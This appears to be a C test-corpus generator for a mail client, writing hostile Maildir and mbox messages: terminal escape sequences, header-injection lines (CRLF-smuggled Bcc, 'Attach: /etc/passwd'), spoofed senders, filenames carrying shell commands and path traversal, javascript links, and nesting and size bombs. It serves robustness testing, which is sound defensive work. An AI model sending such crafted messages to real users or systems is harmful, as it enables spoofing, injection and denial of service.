/* hostile DIR [MOST_BYTES]: makes hostile letters, always the same, into DIR: a Maildir
 * DIR/maildir, one mbox DIR/all.mbox of those below 10 MB, odd mbox files DIR/odd-*.mbox, and a Maildir
 * whose names are hostile DIR/odd-names. A file of DIR/maildir is named by its class. A letter
 * bigger than MOST_BYTES is left out. Says how many there are.
 * hostile --list: names the classes. */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/lib/hostile.h"

struct attack {
	const char *name, *bytes;
};
static const struct attack attacks[] = {
    {"title", ESC_TITLE},     {"copy", ESC_COPY},   {"link", ESC_LINK},
    {"clear", ESC_CLEAR},     {"dcs", ESC_DCS},	    {"ask", ESC_ASK},
    {"c1-raw", C1_RAW},	      {"c1-utf8", C1_UTF8}, {"controls", CONTROLS},
    {"overprint", OVERPRINT}, {"bidi", BIDI},	    {"zero-width", ZERO_WIDTH},
    {"tags", TAGS},	      {"paste-end", PASTE_END}, {"overlong", OVERLONG},
    {"apc", APC},	      {"reset", RESET},	    {"surrogates", SURROGATES},
    {"separators", SEPARATORS}, {"unclosed", ESC_OPEN}, {"last", ESC_LAST},
};
#define ATTACKS (sizeof attacks / sizeof *attacks)
/* The letter being made. */
void hostile_repeat(FILE *out, const char *text, long times)
{
	size_t len = strlen(text);

	while (times-- > 0)
		fwrite(text, 1, len, out);
}

void hostile_top(FILE *out, const char *subject)
{
	fprintf(out,
		"From: Mallory <mallory@evil.example>\nTo: me@localhost\nSubject: %s\n"
		"Date: Mon, 23 Nov 2026 06:00:00 +0000\nMIME-Version: 1.0\n",
		subject);
}

void hostile_typed(FILE *out, const char *subject, const char *type)
{
	hostile_top(out, subject);
	fprintf(out, "Message-ID: <%s@evil.example>\nContent-Type: %s\n\n", subject, type);
}

void hostile_base64(FILE *out, const char *bytes, size_t len)
{
	static const char digits[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	const unsigned char *at = (const unsigned char *)bytes;

	for (size_t i = 0; i < len; i += 3) {
		unsigned bits = (unsigned)at[i] << 16 | (i + 1 < len ? at[i + 1] : 0u) << 8 |
				(i + 2 < len ? at[i + 2] : 0u);

		fputc(digits[bits >> 18], out);
		fputc(digits[bits >> 12 & 63], out);
		fputc(i + 1 < len ? digits[bits >> 6 & 63] : '=', out);
		fputc(i + 2 < len ? digits[bits & 63] : '=', out);
	}
}

static void quoted(FILE *out, const char *bytes)
{
	for (; *bytes; bytes++)
		fprintf(out, "=%02X", (unsigned char)*bytes);
}

/* --- one sort of bytes in every field, raw, and encoded ----------------------------- */

static void every_field(FILE *out, const char *bad)
{
	fprintf(out, "From: \"a%sb\" <evil%s@evil.example>\nSender: %s <s@%s.example>\n", bad, bad,
		bad, bad);
	fprintf(out, "Reply-To: %s <r%s@evil.example>\nTo: %s <t@e.example>, t%s@e.example\n", bad,
		bad, bad, bad);
	fprintf(out, "Cc: (%s) c@e.example, %s: d@e.example;\nSubject: x %s y\nDate: %s\n", bad,
		bad, bad, bad);
	fprintf(out, "Message-ID: <%s@e.example>\nIn-Reply-To: <a%s@b>\nReferences: <%s@r> %s\n",
		bad, bad, bad, bad);
	fprintf(out, "List-Id: %s <%s.list.example>\nList-Post: <mailto:%s@l.example>\n", bad, bad,
		bad);
	fprintf(out, "List-Unsubscribe: <https://e.example/%s>, <mailto:u%s@e>\nX-Mailer: %s\n",
		bad, bad, bad);
	fprintf(out, "User-Agent: %s\nX-%s: odd\nReceived: from %s by %s; %s\nOrganization: %s\n",
		bad, bad, bad, bad, bad, bad);
	fprintf(out, "Authentication-Results: %s; dkim=pass%s\nContent-Language: %s\n", bad, bad,
		bad);
}

static void raw_fields(FILE *out, const char *bad)
{
	every_field(out, bad);
	fprintf(out, "MIME-Version: 1.0%s\nContent-Type: multipart/mixed; boundary=\"b%s\"\n\n",
		bad, bad);
	fprintf(out, "--b%s\nContent-Type: text/plain; charset=\"%s\"; format=%s\n", bad, bad, bad);
	fprintf(out, "Content-Description: %s\nContent-Transfer-Encoding: %s\n\nbody %s\n", bad,
		bad, bad);
	fprintf(out, "--b%s\nContent-Type: application/%s; name=\"n%s.pdf\"\n", bad, bad, bad);
	fprintf(out, "Content-Disposition: attachment; filename=\"f%s.pdf\"\n", bad);
	fprintf(out, "Content-Description: %s\nContent-ID: <%s>\n\nx\n--b%s--\n", bad, bad, bad);
}

static void encoded_fields(FILE *out, const char *bad)
{
	char word[4096], *at = word;

	at += sprintf(at, "=?utf-8?q?");
	for (const char *c = bad; *c && at < word + 4000; c++)
		at += sprintf(at, "=%02X", (unsigned char)*c);
	strcpy(at, "?=");
	every_field(out, word);
	fprintf(
	    out,
	    "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nbody\n--b\n");
	fprintf(out, "Content-Type: application/pdf; name=\"%s\"\nContent-Description: %s\n", word,
		word);
	fprintf(out, "Content-Disposition: attachment; filename*=utf-8''");
	for (const char *c = bad; *c; c++)
		fprintf(out, "%%%02X", (unsigned char)*c);
	fprintf(out, "\n\nx\n--b--\n");
}

static void plain_body(FILE *out, const char *bad)
{
	hostile_typed(out, "body-plain", "text/plain; charset=utf-8");
	fprintf(out, "line %s\n> quoted %s\n-- \n%s\nhttps://e.example/%s\n", bad, bad, bad, bad);
}

static void html_body(FILE *out, const char *bad)
{
	hostile_typed(out, "body-html", "text/html; charset=utf-8");
	fprintf(out, "<title>%s</title><p title=\"%s\" class='%s'>%s", bad, bad, bad, bad);
	fprintf(out, "<a href=\"https://e.example/%s\">%s</a><img alt=\"%s\" src=\"%s\">", bad, bad,
		bad, bad);
	fprintf(out, "<pre>%s</pre><table><tr><td>%s<th>%s</table><ul><li>%s</ul>\n", bad, bad, bad,
		bad);
}

/* --- bodies in every encoding and charset --------------------------------------------------- */

static void bodies(FILE *out, const char *unused)
{
	static const char bad[] = "begin " ALL " end\n";
	static const char *const charsets[] = {
	    "us-ascii",
	    "iso-8859-1",
	    "windows-1252",
	    "utf-7",
	    "utf-16",
	    "utf-16le",
	    "utf-32",
	    "shift_jis",
	    "iso-2022-jp",
	    "iso-2022-cn-ext",
	    "hz",
	    "gb18030",
	    "big5",
	    "euc-kr",
	    "koi8-r",
	    "unknown-8bit",
	    "x-user-defined",
	    "../../../tmp/x",
	    "",
	    "ebcdic-us",
	    "cp037",
	};

	(void)unused;
	hostile_typed(out, "charsets", "multipart/mixed; boundary=b");
	for (size_t i = 0; i < sizeof charsets / sizeof *charsets; i++) {
		fprintf(out, "--b\nContent-Type: text/plain; charset=\"%s\"\n\n%s", charsets[i],
			bad);
		fprintf(out, "--b\nContent-Type: text/plain; charset=\"%s\"\n", charsets[i]);
		fprintf(out, "Content-Transfer-Encoding: base64\n\n");
		hostile_base64(out, bad, sizeof bad - 1);
		fprintf(out, "\n--b\nContent-Type: text/html; charset=\"%s\"\n", charsets[i]);
		fprintf(out, "Content-Transfer-Encoding: quoted-printable\n\n");
		quoted(out, bad);
		fprintf(out, "\n");
	}
	fprintf(out, "--b--\n");
}

static void other_encodings(FILE *out, const char *unused)
{
	static const char bad[] = ALL;

	(void)unused;
	hostile_typed(out, "encodings", "multipart/mixed; boundary=b");
	fprintf(out, "--b\nContent-Transfer-Encoding: binary\n\n%s\n", bad);
	fprintf(out, "--b\nContent-Transfer-Encoding: x-uuencode\n\nbegin 777 ../../%s\n", bad);
	fprintf(out, "$&UM;,C\n`\nend\n--b\nContent-Transfer-Encoding: x-%s\n\n%s\n", bad, bad);
	fprintf(
	    out,
	    "--b\nContent-Transfer-Encoding: yenc\n\n=ybegin line=128 size=99999999 name=%s\n%s\n",
	    bad, bad);
	fprintf(
	    out,
	    "=yend size=1\n--b\nContent-Type: text/plain; charset=utf-7\n\n+ABsAXQAw-;x+AAc-\n");
	fprintf(out,
		"--b\nContent-Type: text/plain; charset=iso-2022-jp\n\n\033$B\033(B\033[2J\033$B");
	fprintf(out, "\n--b--\n");
}

static void html_entities(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "entities", "text/html");
	for (int i = 0; i < 160; i++)
		fprintf(out, "&#%d;]0;t&#x%x;[2J&#0%d;", i, (unsigned)i, i);
	fprintf(out, "&#x1b&#x9b;&#x80000000;&#99999999999999999999;&#-27;&#xd800;&#x202e;&bel;&"
		     "Tab;&NewLine;");
	fprintf(out,
		"<title>&#27;]0;t&#7;</title><a href='&#27;]8;;&#7;'>l</a><img alt='&#27;[2J'>");
	fprintf(out, "<a href='javascript:alert(1)'>js</a><a href='data:text/html,%%1b'>d</a>");
	fprintf(out, "<a href='http://good.example/%%1b%%0a%%00'>p</a>");
	fprintf(out, "<a href='https://evil.example'>https://bank.example</a>\n");
}

static void nested_headers(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "nested-headers", "multipart/mixed; boundary=o");
	fprintf(out, "--o\nContent-Type: message/rfc822\n\n");
	raw_fields(out, ALL);
	fprintf(out, "--o\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n");
	hostile_base64(out, "From: \033[2J\nSubject: \033]0;x\007\n\n\2332J", 31);
	fprintf(out, "\n--o--\n");
}

static void report(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "report", "multipart/report; report-type=delivery-status; boundary=b");
	fprintf(out, "--b\n\n%s\n--b\nContent-Type: message/delivery-status\n\n", ALL);
	fprintf(out, "Reporting-MTA: dns; %s\nArrival-Date: %s\n\n", ALL, ALL);
	fprintf(out, "Final-Recipient: rfc822; %s\nAction: failed%s\nStatus: 5.%s\n", ALL, ALL,
		ALL);
	fprintf(out, "Diagnostic-Code: smtp; 550 %s\nRemote-MTA: dns; %s\n\n", ALL, ALL);
	fprintf(out, "--b\nContent-Type: message/rfc822\n\nSubject: %s\n\n--b--\n", ALL);
}

static void receipt(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "receipt", "multipart/report; report-type=disposition-notification; boundary=b");
	fprintf(out, "--b\n\nread\n--b\nContent-Type: message/disposition-notification\n\n");
	fprintf(out, "Reporting-UA: %s\nFinal-Recipient: %s\nDisposition: %s/%s; %s\n\n--b--\n",
		ALL, ALL, ALL, ALL, ALL);
}

static void calendar(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "calendar", "text/calendar; method=REQUEST");
	fprintf(out, "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:%s\nSUMMARY:%s\n", ALL,
		ALL);
	fprintf(out, "LOCATION:%s\nDESCRIPTION:%s\\n%s\nORGANIZER;CN=\"%s\":mailto:%s\n", ALL, ALL,
		ALL, ALL, ALL);
	fprintf(out, "DTSTART;TZID=%s:99999999T999999\nRRULE:FREQ=SECONDLY;COUNT=999999999\n", ALL);
	hostile_repeat(out, "ATTENDEE;CN=\"\033[2J\":mailto:x@y\n", 1000);
	fprintf(out, "END:VEVENT\nEND:VCALENDAR\n");
}

static void vcard(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "vcard", "text/vcard");
	fprintf(out, "BEGIN:VCARD\nFN:%s\nN:%s;%s\nTEL:%s\nNOTE:%s\n", ALL, ALL, ALL, ALL, ALL);
	hostile_repeat(out, "BEGIN:VCARD\n", 5000);
}

/* --- another sender than it seems ------------------------------------------------------- */

static void spoof_name(FILE *out, const char *from)
{
	fprintf(out, "From: %s\nTo: me@localhost\nSubject: spoof\n", from);
	fprintf(out, "Message-ID: <spoof%zu@e.example>\n\nbody\n", strlen(from));
}

static void word_bomb(FILE *out, const char *unused)
{
	(void)unused;
	fprintf(out, "From: e@e.example\nMessage-ID: <words@e>\nSubject:");
	for (long i = 0; i < 60000; i++)
		fprintf(out, " =?utf-8?q?%ld?=%s", i, i % 4 ? "" : "\n");
	fprintf(out, "\n\nbody\n");
}

static void word_open(FILE *out, const char *word)
{
	fprintf(out, "From: e@e.example\nMessage-ID: <open%zu@e>\nSubject: ", strlen(word));
	hostile_repeat(out, word, 200000);
	fprintf(out, "\nTo: ");
	hostile_repeat(out, word, 200000);
	fprintf(out, "\n\nbody\n");
}

static void word_charsets(FILE *out, const char *unused)
{
	(void)unused;
	fprintf(out, "From: e@e.example\nMessage-ID: <wcs@e>\nSubject:");
	for (long i = 0; i < 5000; i++)
		fprintf(
		    out,
		    " =?x-%ld*en?b?G1sySg?=\n =?iso-2022-jp?b?GyRCGyhC?=\n =?utf-16?b?ABsAWw==?=\n",
		    i);
	fprintf(out, "\nbody\n");
}

/* --- much of everything ------------------------------------------------------------ */

static void deep_multipart(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "deep-multipart", "multipart/mixed; boundary=b0");
	for (long i = 0; i < 10000; i++)
		fprintf(out, "--b%ld\nContent-Type: multipart/mixed; boundary=b%ld\n\n", i, i + 1);
	fprintf(out, "--b10000\n\nthe end\n");
	for (long i = 10000; i >= 0; i--)
		fprintf(out, "--b%ld--\n", i);
}

static void deep_same(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "deep-same", "multipart/mixed; boundary=b");
	hostile_repeat(out, "--b\nContent-Type: multipart/mixed; boundary=b\n\n", 10000);
}

static void deep_prefix(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "deep-prefix", "multipart/mixed; boundary=a");
	for (int i = 1; i < 1000; i++) {
		fprintf(out, "--");
		hostile_repeat(out, "a", i);
		fprintf(out, "\nContent-Type: multipart/mixed; boundary=");
		hostile_repeat(out, "a", i + 1);
		fprintf(out, "\n\n");
	}
}

static void deep_message(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "deep-message", "message/rfc822");
	hostile_repeat(out, "Subject: in\nContent-Type: message/rfc822\n\n", 10000);
	fprintf(out, "\nthe end\n");
}

static void deep_mixed(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "deep-mixed", "multipart/alternative; boundary=b");
	hostile_repeat(
	    out,
	    "--b\nContent-Type: message/rfc822\n\nContent-Type: multipart/related; boundary=b\n\n",
	    5000);
}

static void many_parts(FILE *out, const char *part)
{
	hostile_typed(out, "many-parts", "multipart/mixed; boundary=b");
	hostile_repeat(out, part, 50000);
	fprintf(out, "--b--\n");
}

static void many_parts_in(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "many-boundaries", "multipart/mixed; boundary=b0");
	for (int i = 0; i < 90; i++)
		fprintf(out, "--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n", i, i + 1);
	hostile_repeat(out, "--c\n--b\n--bb0\n", 200000);
}

static void many_headers(FILE *out, const char *line)
{
	hostile_top(out, "many-headers");
	fprintf(out, "Message-ID: <mh%zu@e>\n", strlen(line));
	hostile_repeat(out, line, 100000);
	fprintf(out, "\nbody\n");
}

static void big_header(FILE *out, const char *name)
{
	hostile_top(out, "big-header");
	fprintf(out, "%s: ", name);
	hostile_repeat(out, "0123456789abcde ", 655360);
	fprintf(out, "\n\nbody\n");
}

static void many_folds(FILE *out, const char *name)
{
	hostile_top(out, "many-folds");
	fprintf(out, "%s: x\n", name);
	hostile_repeat(out, " y\n", 200000);
	fprintf(out, "\nbody\n");
}

static void header_of(FILE *out, const char *text)
{
	fprintf(out, "From: e@e.example\nMessage-ID: <ho%zu@e>\nSubject: header of much\n",
		strlen(text));
	fprintf(out, "To: ");
	hostile_repeat(out, text, 100000);
	fprintf(out, "\nCc: ");
	hostile_repeat(out, text, 100000);
	fprintf(out, "\nReply-To: ");
	hostile_repeat(out, text, 100000);
	fprintf(out, "\n\nbody\n");
}

static void many_re(FILE *out, const char *text)
{
	fprintf(out, "From: e@e.example\nMessage-ID: <re%zu@e>\nSubject: ", strlen(text));
	hostile_repeat(out, text, 100000);
	fprintf(out, "x\n\nbody\n");
}

static void references(FILE *out, const char *unused)
{
	(void)unused;
	hostile_top(out, "references");
	fprintf(out, "Message-ID: <refs@e>\nReferences:");
	for (long i = 0; i < 50000; i++)
		fprintf(out, " <ref%ld@e>%s", i, i % 3 ? "" : "\n");
	fprintf(out, "\nIn-Reply-To: ");
	hostile_repeat(out, "<refs@e>", 50000);
	fprintf(out, "\n\nbody\n");
}

static void continuations(FILE *out, const char *unused)
{
	(void)unused;
	hostile_top(out, "continuations");
	fprintf(out, "Content-Type: text/plain");
	for (long i = 0; i < 10000; i++)
		fprintf(out, ";\n name*%ld*=%%1b", i);
	fprintf(out, "\nContent-Disposition: attachment");
	for (long i = 10000; i >= 0; i--)
		fprintf(out, ";\n filename*%ld=\"../\"", i);
	fprintf(out, ";\n filename*99999999999999999999=x; filename*-1=y\n\nbody\n");
}

static void parameters(FILE *out, const char *unused)
{
	(void)unused;
	hostile_top(out, "parameters");
	fprintf(out, "Content-Type: text/plain");
	hostile_repeat(out, "; charset=utf-8; a=b; name=", 20000);
	fprintf(out, "\n\nbody\n");
}

static void long_body(FILE *out, const char *text)
{
	long times = 1000000 / (long)strlen(text);

	hostile_typed(out, "long-body", "text/plain; charset=utf-8");
	hostile_repeat(out, text, times);
	fprintf(out, "\n");
}

static void long_flowed(FILE *out, const char *text)
{
	hostile_typed(out, "long-flowed", "text/plain; charset=utf-8; format=flowed; delsp=yes");
	hostile_repeat(out, text, 1000000 / (long)strlen(text));
	fprintf(out, "\n");
}

static void long_html(FILE *out, const char *text)
{
	hostile_typed(out, "long-html", "text/html; charset=utf-8");
	hostile_repeat(out, text, 1000000 / (long)strlen(text));
	fprintf(out, "\n");
}

static void huge_line(FILE *out, const char *type)
{
	hostile_typed(out, "huge-line", type);
	hostile_repeat(out, "0123456789abcde ", 3276800);
}

static void html_one_link(FILE *out, const char *text)
{
	hostile_typed(out, "html-one-link", "text/html");
	fprintf(out, "<a href='https://e.example/'>");
	hostile_repeat(out, text, 2000000 / (long)strlen(text));
}

static void html_attributes(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "html-attributes", "text/html");
	fprintf(out, "<p");
	for (long i = 0; i < 100000; i++)
		fprintf(out, " a%ld=\"\033[2J\"", i);
	fprintf(out, ">x</p>");
	fprintf(out, "<a ");
	hostile_repeat(out, "href=x ", 100000);
	fprintf(out, ">y</a><p style=\"");
	hostile_repeat(out, "color:red;", 100000);
	fprintf(out, "\">z");
}

/* A sheet of 2,000 rules, then TEXT. */
static void html_sheet(FILE *out, const char *text)
{
	hostile_typed(out, "html-sheet", "text/html");
	fprintf(out, "<style>");
	for (int i = 0; i < 1990; i++)
		fprintf(out, "p%d.x{font-weight:bold}\n", i);
	fprintf(out, "</style>\n");
	hostile_repeat(out, text, 2000000 / (long)strlen(text));
}

static void html_deep(FILE *out, const char *open)
{
	hostile_typed(out, "html-deep", "text/html");
	hostile_repeat(out, open, 200000);
	fprintf(out, "bottom\n");
}

static void html_tables(FILE *out, const char *open)
{
	hostile_typed(out, "html-tables", "text/html");
	hostile_repeat(out, open, 75000 / (long)strlen(open));
	fprintf(out, "bottom\n");
}

static void html_one(FILE *out, const char *text)
{
	hostile_typed(out, "html-one", "text/html");
	fprintf(out, "%s", text);
}

static void html_wide_table(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "html-wide", "text/html");
	fprintf(out, "<table><tr>");
	hostile_repeat(out, "<td>x", 50000);
	hostile_repeat(out, "<tr><td colspan=1000 rowspan=65534>y", 5000);
	fprintf(out, "<tr><td colspan=99999999999 rowspan=-1 width=999999999>z</table>");
}

/* --- odd bodies and headers
 * ------------------------------------------------------------------------------- */

static void uu(FILE *out, const char *lines)
{
	hostile_typed(out, "uu", "text/plain");
	fprintf(out, "begin 4777 ../../../tmp/hostile-uu\n");
	hostile_repeat(out, lines, 20000);
}

static void nul_all(FILE *out, const char *unused)
{
	static const char head[] =
	    "From: a\0b <x\0@y.example>\nSubject: be\0fore\nTo: \0\n\0: \0\n"
	    "Content-Type: text/plain; name=\"a\0b\"\n\nbody\0behind\n\0\0\n";

	(void)unused;
	fwrite(head, 1, sizeof head - 1, out);
	for (long i = 0; i < 100000; i++)
		fputc(0, out);
	fprintf(out, "tail\n");
}

static void only(FILE *out, const char *text)
{
	hostile_repeat(out, text, 50000);
}

static void only_nul(FILE *out, const char *unused)
{
	(void)unused;
	for (long i = 0; i < 100000; i++)
		fputc(0, out);
}

static void nothing(FILE *out, const char *unused)
{
	(void)out;
	(void)unused;
}

static void as_is(FILE *out, const char *text)
{
	fprintf(out, "%s", text);
}

static void date(FILE *out, const char *text)
{
	fprintf(out, "From: e@e.example\nSubject: date\nMessage-ID: <d%zu@e>\nDate: %s\n",
		strlen(text), text);
	fprintf(out, "Received: from x by y; %s\n\nbody\n", text);
}

static void base64_body(FILE *out, const char *text)
{
	hostile_typed(out, "base64", "text/plain\nContent-Transfer-Encoding: base64");
	hostile_repeat(out, text, 20000);
}

static void qp_body(FILE *out, const char *text)
{
	hostile_typed(out, "qp", "text/plain\nContent-Transfer-Encoding: quoted-printable");
	hostile_repeat(out, text, 20000);
}

static void tnef(FILE *out, const char *unused)
{
	static const char junk[] = "\x78\x9f\x3e\x22\1\0\2\x0f\x80\1\0\xff\xff\xff\x7f" ALL
				   "\2\x10\x80\1\0\x0e\0\0\0../../tnef-out\0\0\0";

	(void)unused;
	hostile_typed(out, "tnef", "multipart/mixed; boundary=b");
	for (int i = 0; i < 40; i++) {
		fprintf(out, "--b\nContent-Type: application/ms-tnef; name=winmail.dat\n");
		fprintf(out, "Content-Transfer-Encoding: base64\n\n");
		hostile_base64(out, junk, (size_t)i < sizeof junk ? sizeof junk - (size_t)i : 1);
		fprintf(out, "\n");
	}
	fprintf(out, "--b--\n");
}

/* Names that want out of the folder. */
static const char *const bad_names[] = {
    "../../up",
    "/tmp/hostile-abs",
    "~/home",
    "~root/x",
    "%2e%2e%2fpercent",
    "..%2Fx",
    "\300\256\300\256\300\257over",
    "\301\234back",
    "..",
    ".",
    "",
    "-rf",
    "--help",
    "CON",
    "NUL.txt",
    "com1",
    "trail...",
    "trail   ",
    ".hidden",
    ".bashrc",
    "a/b/c",
    "..\\..\\win",
    "C:\\x.exe",
    "a\tb",
    "a`touch x`",
    "$(touch x)",
    "a;touch x",
    "a|b",
    "a\\\"b",
    "a'b",
    "*",
    "?",
    "photo.jpg.exe",
    "photo\342\200\256gpj.exe",
    " ",
    "...",
    "\342\200\213",
    "a\001b",
    "%00x",
    "....//....//x",
    "cur",
    "new/x:2,S",
    "=?utf-8?q?..=2F..=2Fword?=",
    "=?utf-8?q?a=0Ab=00c?=",
    "\357\274\217full",
    "\342\210\225slash",
    "\342\200\244\342\200\244dots",
};

static void names(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "names", "multipart/mixed; boundary=b");
	fprintf(out, "--b\n\nnames\n");
	for (size_t i = 0; i < sizeof bad_names / sizeof *bad_names; i++) {
		fprintf(out, "--b\nContent-Type: application/x-way; name=\"%s\"\n", bad_names[i]);
		fprintf(out, "Content-Disposition: attachment; filename=\"%s\"\n\npart %zu\n",
			bad_names[i], i);
	}
	fprintf(out, "--b\nContent-Type: text/x; name=\"");
	hostile_repeat(out, "long", 75);
	fprintf(out, ".txt\"\n\nx\n--b\nContent-Type: text/x; name=\"");
	hostile_repeat(out, "\360\237\230\200", 100);
	fprintf(out, ".txt\"\n\nx\n--b\nContent-Disposition: attachment;\n "
		     "filename*=utf-8''a%%0Ab%%0D%%00%%1b%%2f..%%2fy\n");
	fprintf(out, "\nx\n--b\nContent-Disposition: attachment; filename=a\n\tb\n\nx\n--b--\n");
}

static void inject(FILE *out, const char *unused)
{
	(void)unused;
	fprintf(out, "From: =?utf-8?q?x=0D=0ABcc:_victim@e.example?= <e@e.example>\n");
	fprintf(out, "Reply-To: =?utf-8?q?x=0ABcc:_v@e?= <\"a\\\nBcc: v\"@e.example>\n");
	fprintf(out, "Subject: =?utf-8?q?x=0D=0ABcc:_victim@e.example=0D=0A=0D=0Abody?=\n");
	fprintf(out, "Message-ID: <inj\r\rBcc: x@e>\nFcc: ~/hostile-fcc\nAttach: /etc/passwd\n");
	fprintf(
	    out,
	    "Status: RO\nX-Status: AF\nX-Mutt-PGP: S\nX-Tern-Identity: root\nBcc: me@localhost\n");
	fprintf(out,
		"Disposition-Notification-To: spy@e.example\nReturn-Receipt-To: spy@e.example\n");
	fprintf(out, "Mail-Followup-To: =?utf-8?q?a=0Ab?= <m@e>\nX-Draft: yes\n");
	fprintf(
	    out,
	    "List-Unsubscribe: <mailto:x@e?attach=/etc/passwd&bcc=y@e&subject=%%0d%%0aBcc:z>\n");
	fprintf(out, "List-Unsubscribe-Post: List-Unsubscribe=One-Click\n\nbody\n");
}

static void loop(FILE *out, const char *ids)
{
	fprintf(out,
		"From: e@e.example\nDate: Mon, 23 Nov 2026 06:00:00 +0000\nSubject: loop\n%s\n",
		ids);
	fprintf(out, "body\n");
}

static void encrypted(FILE *out, const char *unused)
{
	(void)unused;
	hostile_typed(out, "encrypted", "multipart/mixed; boundary=b");
	for (int i = 0; i < 50; i++) {
		fprintf(out, "--b\nContent-Type: multipart/encrypted; boundary=c; "
			     "protocol=\"application/pgp-encrypted\"\n\n");
		fprintf(out, "--c\nContent-Type: application/pgp-encrypted\n\nVersion: %s\n--c\n\n",
			ALL);
		fprintf(out, "-----BEGIN PGP MESSAGE-----\n%s\n--c--\n", ALL);
		fprintf(out, "--b\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: %s\n\nx\n", ALL);
		fprintf(out, "-----BEGIN PGP SIGNATURE-----\n%s\n-----END PGP SIGNATURE-----\n",
			ALL);
	}
	fprintf(out, "--b--\n");
}

static const struct letter letters[] = {
    {"fields-all-raw", raw_fields, ALL},
    {"fields-all-encoded", encoded_fields, ALL},
    {"charsets", bodies, NULL},
    {"encodings", other_encodings, NULL},
    {"html-entities", html_entities, NULL},
    {"nested-headers", nested_headers, NULL},
    {"report", report, NULL},
    {"receipt", receipt, NULL},
    {"calendar", calendar, NULL},
    {"vcard", vcard, NULL},
    {"spoof-name", spoof_name, "\"boss@bank.example\" <mallory@evil.example>"},
    {"spoof-word", spoof_name,
     "=?utf-8?q?boss=40bank=2Eexample_=3Cboss=40bank=2Eexample=3E?= <m@evil.example>"},
    {"spoof-nul", spoof_name, "=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3YAAA==?=@evil.example"},
    {"spoof-newline", spoof_name, "=?utf-8?q?potus@example=0A=00?=@evil.example"},
    {"spoof-comment", spoof_name, "mallory@evil.example (boss@bank.example)"},
    {"spoof-two", spoof_name, "boss@bank.example, mallory@evil.example"},
    {"spoof-route", spoof_name, "<@bank.example,@x:mallory@evil.example>"},
    {"spoof-cyrillic", spoof_name, "Bank <info@b\320\260nk.example>"},
    {"spoof-puny", spoof_name, "Bank <info@xn--bnk-5cd.example>"},
    {"spoof-wide", spoof_name, "boss\357\274\240bank.example <mallory@evil.example>"},
    {"spoof-quoted", spoof_name, "\"boss@bank.example> \" <mallory@evil.example>"},
    {"spoof-spaces", spoof_name,
     "\"boss <boss@bank.example>                                                                   "
     "\" <m@evil.example>"},
    {"spoof-local", spoof_name, "<\"boss@bank.example \"@evil.example>"},
    {"words", word_bomb, NULL},
    {"words-open", word_open, "=?"},
    {"words-open-charset", word_open, "=?utf-8?q?"},
    {"words-open-base64", word_open, "=?utf-8?b?AAAA"},
    {"words-charsets", word_charsets, NULL},
    {"deep-multipart", deep_multipart, NULL},
    {"deep-same", deep_same, NULL},
    {"deep-prefix", deep_prefix, NULL},
    {"deep-message", deep_message, NULL},
    {"deep-mixed", deep_mixed, NULL},
    {"parts-text", many_parts, "--b\n\nx\n"},
    {"parts-empty", many_parts, "--b\n"},
    {"parts-html", many_parts, "--b\nContent-Type: text/html\n\n<p>x\n"},
    {"parts-attached", many_parts,
     "--b\nContent-Type: a/b; name=\"../x\"\nContent-Disposition: attachment\n\ny\n"},
    {"parts-messages", many_parts, "--b\nContent-Type: message/rfc822\n\nSubject: x\n\ny\n"},
    {"parts-reports", many_parts,
     "--b\nContent-Type: message/delivery-status\n\nFinal-Recipient: x\nAction: failed\n"},
    {"parts-calendars", many_parts,
     "--b\nContent-Type: text/calendar\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\n"},
    {"boundaries", many_parts_in, NULL},
    {"headers", many_headers, "X-Filler: some value that is here\n"},
    {"headers-to", many_headers, "To: a b <x@e.example>\n"},
    {"headers-subject", many_headers, "Subject: another\n"},
    {"headers-ct", many_headers, "Content-Type: multipart/mixed; boundary=c\n"},
    {"headers-no-colon", many_headers, "nocolon\n"},
    {"headers-received", many_headers, "Received: from a by b; Mon, 23 Nov 2026 06:00:00 +0000\n"},
    {"header-subject", big_header, "Subject"},
    {"header-to", big_header, "To"},
    {"header-odd", big_header, "X-Odd"},
    {"header-references", big_header, "References"},
    {"header-ct", big_header, "Content-Type"},
    {"header-date", big_header, "Date"},
    {"header-from", big_header, "From"},
    {"folds-subject", many_folds, "Subject"},
    {"folds-to", many_folds, "To"},
    {"folds-ct", many_folds, "Content-Type: text/plain; x"},
    {"folds-odd", many_folds, "X-Odd"},
    {"address-many", header_of, "Some Body <x@e.example>, "},
    {"address-bare", header_of, "a@b,"},
    {"address-groups", header_of, "g: a@b, "},
    {"address-group-ends", header_of, ";"},
    {"address-comments", header_of, "("},
    {"address-comments-nested", header_of, "(a)"},
    {"address-angles", header_of, "<"},
    {"address-quotes", header_of, "\""},
    {"address-routes", header_of, "@a,"},
    {"address-backslash", header_of, "\\"},
    {"address-colons", header_of, ":"},
    {"address-words", header_of, "=?utf-8?q?a?= "},
    {"address-ats", header_of, "@"},
    {"address-commas", header_of, ","},
    {"re", many_re, "Re: "},
    {"re-numbers", many_re, "Re[2]: "},
    {"re-brackets", many_re, "[list] "},
    {"re-open", many_re, "["},
